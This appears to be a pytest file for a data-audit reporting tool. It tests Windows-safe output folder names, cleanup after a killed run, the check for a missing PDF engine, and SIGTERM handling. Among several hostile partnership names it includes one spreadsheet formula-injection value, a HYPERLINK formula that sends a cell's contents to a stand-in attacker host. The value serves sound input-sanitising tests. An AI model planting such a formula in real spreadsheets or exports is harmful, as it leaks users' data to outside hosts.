"""Every platform (issue 16) and a stopped run (issue 12, point 6).

* ``python -m audit`` and ``python -m audit.dev`` (the set-up both routes share);
* output folder names valid on Windows whatever the partnership is called, checked on a
  whole pack run on the Windows kernel transport (TCP on 127.0.0.1, chosen by patching the
  platform check), after which nothing is left in the temporary directory and the folders
  a killed run left beside the output are gone;
* ``--pdf`` without Pango stops before any work with this platform's install step;
* SIGTERM is handled as Ctrl-C is: exit 143, nothing left behind, kernels stopped.

What cannot run here is Windows itself: its ZeroMQ, file locking and console. Each part is
tested through the function that makes the platform choice instead (see the closing note
of issue 16 in the report).
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
import time
import types
from pathlib import Path

import pytest

from audit import cli
from audit.errors import ReportError
from audit.paths import (
    is_valid_windows_name,
    portable_name,
    remove_leftovers,
    staging_prefix,
    temp_prefix,
)
from audit.run import kernels
from audit.run.report import default_output_dir, run_audit

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "data" / "sample" / "pooled_extract.csv"


def python_m(*args: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", *args], capture_output=True, text=True,
                          timeout=300, **kwargs)


# --------------------------------------------------------------------------- entry points


def test_python_m_audit_runs_the_cli():
    done = python_m("audit", "--help")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("usage: audit ")
    assert "validate" in done.stdout and "history" in done.stdout
    done = python_m("audit", "validate", str(ROOT / "data" / "sample" / "broken" /
                                             "missing_column.csv"))
    assert done.returncode == 2 and done.stderr.startswith("audit validate: ")


def test_setup_registers_the_kernel_for_this_interpreter(tmp_path):
    from audit.dev import KERNEL_DISPLAY_NAME, register_kernel

    folder = register_kernel(prefix=str(tmp_path))
    assert folder == tmp_path / "share" / "jupyter" / "kernels" / "audit"
    spec = json.loads((folder / "kernel.json").read_text(encoding="utf-8"))
    assert spec["argv"][0] == sys.executable
    assert spec["display_name"] == KERNEL_DISPLAY_NAME == "audit (Python 3)"
    done = python_m("audit.dev", "setup")  # the command make venv and the README run
    assert done.returncode == 0, done.stderr
    assert f"registered the Jupyter kernel 'audit' (audit (Python 3)) for {sys.executable}" \
        in done.stdout
    assert "PDF engine:" in done.stdout


def test_check_pdf_agrees_with_the_engine_check():
    from audit.dev import pdf_engine_status

    available, _detail = pdf_engine_status()
    done = python_m("audit.dev", "check-pdf")
    assert done.returncode == (0 if available else 1)
    assert done.stdout == ""  # make report captures stdout; the note goes to stderr


def test_makefile_and_readme_use_the_shared_setup():
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "$(BIN)/python -m audit.dev setup" in makefile
    assert "ipykernel install" not in makefile  # one source of truth: audit.dev
    assert "--history $(SAMPLE_HISTORY)" in makefile
    assert "SAMPLE_HISTORY := reports/sample/history.sqlite" in makefile
    assert r".venv\Scripts\python -m audit.dev setup" in readme
    assert ".venv/bin/python -m audit.dev setup" in readme


# --------------------------------------------------------------------------- file names


@pytest.mark.parametrize(("name", "valid"), [
    ("board-pack.html", True), ("2025-Q3-north-bridge", True), (".pack.partial-x", True),
    ("a:b", False), ("x.", False), ("x ", False), ("CON", False), ("con.txt", False),
    ("NUL", False), ("Lpt9", False), ("COM¹", False), ("aux.tar.gz", False),
    ("CONSOLE", True), ("a\tb", False), ('say"hi"', False), ("a/b", False), ("a\\b", False),
    ("what?", False), ("*", False), ("", False), ("..", False), ("x" * 255, True),
    ("x" * 256, False),
])
def test_is_valid_windows_name(name, valid):
    assert is_valid_windows_name(name) is valid


HOSTILE = ["North Bridge", "CON", "lpt1", "Ynys Môn.", "a:b|c", "..", "   ", "名古屋",
           '=HYPERLINK("http://evil.example/?"&A1,"click")', "Trailing dot.", "x" * 300]


@pytest.mark.parametrize("partnership", HOSTILE)
@pytest.mark.parametrize("period", [None, "2025-Q3", "2025", "all", "2025:Q3"])
def test_default_output_dir_is_valid_on_windows(period, partnership):
    path = default_output_dir(period, partnership)
    assert path.parts[0] == "reports" and len(path.parts) == 2
    assert is_valid_windows_name(path.name), path.name
    assert len(path.name) <= 100


def test_default_output_dir_keeps_readable_names():
    assert default_output_dir("2025-q3", "North Bridge").name == "2025-Q3-north-bridge"
    assert default_output_dir(None, "Ynys Môn.").name == "all-ynys-mon"
    assert default_output_dir("2025", "CON").name == "2025-con_"
    assert portable_name("名古屋") == "unnamed"


def _dead_pid() -> int:
    """The id of a process that has just exited."""
    done = subprocess.Popen([sys.executable, "-c", "pass"])
    done.wait()
    return done.pid


@pytest.fixture(scope="module")
def windows_branch_pack(tmp_path_factory):
    """A whole pack on the Windows kernel transport, into a folder where a killed run left
    its staging folder (this release's naming and an older one's) and temporary folders."""
    monkeypatch = pytest.MonkeyPatch()
    base = tmp_path_factory.mktemp("winpack")
    temp = base / "tmp"
    temp.mkdir()
    marker = base / "transports.txt"
    real = kernels.kernel_transport

    def windows(platform: str = sys.platform) -> str:
        chosen = real("win32")
        with open(marker, "a", encoding="utf-8", newline="") as handle:
            handle.write(f"{os.getpid()} {chosen}\n")
        return chosen

    monkeypatch.setattr(kernels, "kernel_transport", windows)
    monkeypatch.setattr("tempfile.tempdir", str(temp))
    out = base / "reports" / "pack"
    out.parent.mkdir()
    dead = _dead_pid()
    tag = staging_prefix(out).replace(str(os.getpid()), str(dead))
    left = [out.parent / f"{tag}abcd1234", out.parent / f".{out.name}.partial-k2j4h5g6",
            temp / (temp_prefix("run").replace(str(os.getpid()), str(dead)) + "x1"),
            temp / (temp_prefix("kernel").replace(str(os.getpid()), str(dead)) + "x2")]
    for folder in left:
        folder.mkdir()
        (folder / "cases.parquet").write_bytes(b"PAR1")
    live = out.parent / f"{staging_prefix(out)}live0000"  # a running process's: kept
    live.mkdir()
    messages: list[str] = []
    try:
        result = run_audit(SAMPLE, output_dir=out, jobs=2, progress=messages.append)
    finally:
        monkeypatch.undo()
    yield types.SimpleNamespace(result=result, out=out, temp=temp, left=left, live=live,
                                messages=messages, marker=marker)


def test_every_path_of_a_pack_is_a_valid_windows_name(windows_branch_pack):
    root = windows_branch_pack.out.parent
    paths = [p.relative_to(root) for p in root.rglob("*")]
    assert len(paths) > 20
    bad = [str(p) for p in paths for part in p.parts if not is_valid_windows_name(part)]
    assert bad == []
    assert (windows_branch_pack.out / "board-pack.html").is_file()


def test_the_pack_ran_on_the_tcp_transport(windows_branch_pack):
    lines = windows_branch_pack.marker.read_text(encoding="utf-8").split()
    transports = lines[1::2]
    assert transports and set(transports) == {"tcp"}
    assert len(set(lines[0::2])) == 2  # one kernel in each of the two worker processes


def test_leftovers_of_a_killed_run_are_removed_and_nothing_new_is_left(windows_branch_pack):
    pack = windows_branch_pack
    assert [p for p in pack.left if p.exists()] == []
    assert pack.live.is_dir()  # its owner (this test process) is running
    assert any("left by an earlier run" in m for m in pack.messages)
    assert list(pack.temp.iterdir()) == []  # no audit-run-* or audit-kernel-* folder
    siblings = sorted(p.name for p in pack.out.parent.iterdir())
    assert siblings == sorted([pack.out.name, pack.live.name])


def test_remove_leftovers_keeps_what_running_runs_own(tmp_path):
    out = tmp_path / "pack"
    ours = tmp_path / f"{staging_prefix(out)}aaaa"
    other_host = tmp_path / f".pack.partial-elsewhere.{_dead_pid()}-bbbb"
    other_pack = tmp_path / ".other.partial-k2j4h5g6"
    old_backup = tmp_path / f".pack.old-{_dead_pid()}"
    for folder in (ours, other_host, other_pack, old_backup):
        folder.mkdir()
    removed = remove_leftovers(out, temp_dir=tmp_path / "no-such-temp")
    assert removed == [old_backup]
    assert ours.is_dir() and other_host.is_dir() and other_pack.is_dir()
    day_old = time.time() - 2 * 24 * 3600
    os.utime(other_host, (day_old, day_old))
    assert remove_leftovers(out, temp_dir=tmp_path) == [other_host]


# --------------------------------------------------------------------------- PDF


@pytest.mark.parametrize(("platform", "says"), [
    ("win32", ["GTK", "GTK-for-Windows-Runtime-Environment-Installer",
               "WEASYPRINT_DLL_DIRECTORIES"]),
    ("darwin", ["brew install pango"]),
    ("linux", ["apt-get install libpango-1.0-0 libpangoft2-1.0-0"]),
])
def test_pdf_without_pango_stops_before_any_work(platform, says, monkeypatch, tmp_path,
                                                 capsys):
    """WeasyPrint installed, Pango missing (importing it raises OSError, as cffi does)."""
    import audit.render.pdf as pdf_module

    class NoPango:
        def find_spec(self, name, path=None, target=None):
            if name == "weasyprint":
                raise OSError("cannot load library 'libpango-1.0-0': error 0x7e")
            return None

    monkeypatch.delitem(sys.modules, "weasyprint", raising=False)
    monkeypatch.setattr(sys, "meta_path", [NoPango(), *sys.meta_path])
    monkeypatch.setattr(pdf_module, "sys", types.SimpleNamespace(platform=platform))
    missing = tmp_path / "not_read.csv"  # never opened: the check comes first
    with pytest.raises(ReportError) as caught:
        run_audit(missing, output_dir=tmp_path / "pack", pdf=True, progress=None)
    message = str(caught.value)
    for text in says:
        assert text in message
    assert "print it to PDF" in message  # the no-install route
    assert list(tmp_path.iterdir()) == []
    assert cli.main(["run", str(missing), "--out", str(tmp_path / "pack"), "--pdf",
                     "--no-history"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("audit run: PDF output cannot start: ") and says[0] in err


# --------------------------------------------------------------------------- SIGTERM


def _processes_mentioning(text: str) -> list[int]:
    """Ids of running processes whose command line mentions ``text`` (Linux /proc)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ")
            except OSError:
                continue
            if text.encode() in cmdline:
                found.append(int(entry.name))
    return found


@pytest.mark.skipif(os.name != "posix" or not Path("/proc").is_dir(),
                    reason="SIGTERM to a running process and /proc are POSIX (Linux) only; on "
                    "Windows a scheduler ends a process without a signal it could handle")
def test_sigterm_mid_run_cleans_up_and_exits_143(tmp_path):
    # a short TMPDIR: under a deep one (pytest-xdist's popen-gw0/...) the kernels' folders
    # go to /tmp instead, for the socket path's length (kernels._private_folder)
    temp, out = Path(tempfile.mkdtemp(prefix="t", dir="/tmp")), tmp_path / "reports"
    out.mkdir()
    env = {**os.environ, "TMPDIR": str(temp)}
    process = subprocess.Popen(
        [sys.executable, "-m", "audit", "run", str(SAMPLE), "--out", str(out / "pack"),
         "--no-history", "--jobs", "2"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True, env=env)
    try:
        seen = []
        for line in process.stderr:  # wait until the notebooks are running on kernels
            seen.append(line)
            if line.startswith("running ") and "notebooks" in line:
                break
        deadline = time.monotonic() + 180  # kernels start slowly on a busy machine
        while len(list(temp.glob("audit-kernel-*/kernel.json"))) < 2 \
                and time.monotonic() < deadline:
            time.sleep(0.1)
        assert len(list(temp.glob("audit-kernel-*/kernel.json"))) == 2, "".join(seen)
        kernels_running = _processes_mentioning(str(temp))
        assert len(kernels_running) == 2  # the two kernels, started with -f TEMP/...json
        assert [p for p in out.iterdir() if ".partial-" in p.name]  # mid-run: staging exists
        # At once: notebooks take under a second each now, so any wait here races the run's
        # own end (it was seen to finish first, exit 0, on a quiet machine).
        process.send_signal(signal.SIGTERM)
        rest = process.stderr.read()
        code = process.wait(timeout=120)
    finally:
        if process.poll() is None:
            process.send_signal(signal.SIGTERM)
            try:
                process.wait(timeout=60)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
    assert code == 143, "".join(seen) + rest
    assert rest.rstrip().endswith("audit: terminated (SIGTERM); nothing was written")
    assert "Traceback" not in rest
    assert list(out.iterdir()) == []                   # no pack, no .pack.partial-*
    assert list(temp.iterdir()) == []                  # no audit-run-*, audit-kernel-*
    temp.rmdir()
    assert [pid for pid in kernels_running if Path(f"/proc/{pid}").exists()] == []


# --------------------------------------------------------------------------- the source


def _calls(tree):
    import ast

    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.id if isinstance(func, ast.Name) else \
                func.attr if isinstance(func, ast.Attribute) else None
            yield name, node


def test_source_opens_text_with_an_encoding_and_never_shells_out():
    """Every text file the library opens names its encoding, and every text file it
    writes its line endings (Windows would otherwise write cp1252 and CRLF); no module
    runs a shell or a POSIX tool."""
    import ast

    problems = []
    for path in sorted((ROOT / "src" / "audit").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for name, node in _calls(tree):
            where = f"{path.name}:{node.lineno}"
            keywords = {k.arg for k in node.keywords}
            if name in ("open", "fdopen"):
                if name == "open" and not isinstance(node.func, ast.Name):
                    continue  # zipfile's archive.open, os.open: not text files
                mode = node.args[1] if len(node.args) > 1 else next(
                    (k.value for k in node.keywords if k.arg == "mode"), None)
                text = mode.value if isinstance(mode, ast.Constant) else "r"
                if "b" in text:
                    continue
                if "encoding" not in keywords:
                    problems.append(f"{where}: {name}() without encoding")
                if set(text) & set("wax") and "newline" not in keywords:
                    problems.append(f"{where}: {name}() for writing without newline")
            elif name == "read_text" and "encoding" not in keywords:
                problems.append(f"{where}: read_text() without encoding")
            elif name == "write_text" and not {"encoding", "newline"} <= keywords:
                problems.append(f"{where}: write_text() without encoding and newline")
            elif name in ("system", "popen", "Popen", "run", "call", "check_output") and \
                    isinstance(node.func, ast.Attribute) and \
                    getattr(node.func.value, "id", "") in ("os", "subprocess"):
                problems.append(f"{where}: shells out ({name})")
    assert problems == []
